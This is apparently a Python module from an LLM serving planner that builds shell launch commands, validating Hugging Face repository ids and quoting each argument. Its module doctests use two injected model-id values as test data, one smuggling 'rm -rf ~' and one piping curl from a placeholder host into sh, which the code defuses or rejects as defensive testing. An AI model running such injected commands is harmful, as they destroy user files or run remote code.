"""Launch commands that paste safely: every value is one shell word, and a model is named only by what an
engine accepts.

A model id reaches a command from the catalog, a Hub import, a ``config.json`` or a shared link (``spec=``), so it
is outside text. :func:`repo_argument` keeps it only when it is a Hugging Face repository id by the Hub's own
grammar (``huggingface_hub.utils.validate_repo_id``: ``namespace/name``, letters, digits, ``-``, ``_``, ``.``; no
``--`` or ``..``; ``-`` and ``.`` neither first nor last; at most 96 characters a part); anything else becomes a
placeholder the reader fills in. :func:`command` joins words with :func:`shlex.quote`, so whatever a value holds
it stays one argument.

>>> command("vllm", "serve", "meta-llama/Llama-3.1-8B; rm -rf ~", "--max-model-len", 8192)
"vllm serve 'meta-llama/Llama-3.1-8B; rm -rf ~' --max-model-len 8192"
>>> repo_argument("meta-llama/Llama-3.1-8B"), repo_argument("x; curl http://e.test | sh #")
('meta-llama/Llama-3.1-8B', None)
"""

from __future__ import annotations

import re
import shlex

from planner.core.model import ModelSpec

_PART = r"[A-Za-z0-9](?:[A-Za-z0-9._-]{0,94}[A-Za-z0-9])?"
_REPO_ID = re.compile(rf"(?:{_PART}/)?{_PART}")


def repo_argument(model_id: str) -> str | None:
    """``model_id`` when it is a Hub repository id (``owner/name`` or ``name``), else ``None``."""
    if not _REPO_ID.fullmatch(model_id) or "--" in model_id or ".." in model_id:
        return None
    return model_id


def word(value: object) -> str:
    """One shell word for ``value`` (quoted only when it needs to be)."""
    return shlex.quote(str(value))


def command(*words: object) -> str:
    """The command line of ``words``, each one shell word."""
    return " ".join(word(w) for w in words)


def placeholder(description: str) -> str:
    """A placeholder argument the reader replaces (``<an AWQ checkpoint of …>``), as one quoted word."""
    return word(f"<{description}>")


HEAD_LABELS = {"eagle": "EAGLE", "eagle3": "EAGLE-3", "medusa": "Medusa"}


def speculative_head(method: str, model: ModelSpec) -> str:
    """The placeholder a launch command writes for a speculative head's repository, which the planner does not
    know (it plans the head's memory from the model's shapes): the reader replaces it.

    >>> from planner.core.model import ModelSpec
    >>> speculative_head("eagle3", ModelSpec.model_construct(id="meta-llama/Llama-3.1-8B"))
    '<EAGLE-3 head for meta-llama/Llama-3.1-8B>'
    """
    return f"<{HEAD_LABELS.get(method, method)} head for {model.id}>"


def replicas_note(why: str, replicas: int, gpus: int, selector: str = "CUDA_VISIBLE_DEVICES") -> str:
    """The comment line above a command an engine runs once per replica (``why`` it does not serve them from one
    process): how many, and on which GPUs, chosen by ``selector`` (an environment variable; "" for a machine of one
    GPU each, a Mac).

    >>> replicas_note("llama-server serves one replica a process", 2, 1).rstrip()
    '# llama-server serves one replica a process: run this command once per replica, 2 in all, each on its own GPU \
(CUDA_VISIBLE_DEVICES), behind a load balancer'
    >>> replicas_note("llama-server serves one replica a process", 2, 1, selector="").rstrip()[-57:]
    '2 in all, each on its own machine, behind a load balancer'
    """
    own = "its own GPU" if gpus == 1 else f"its own {gpus} GPUs"
    where = f"{own} ({selector})" if selector else "its own machine"
    return f"# {why}: run this command once per replica, {replicas} in all, each on {where}, behind a load balancer\n"
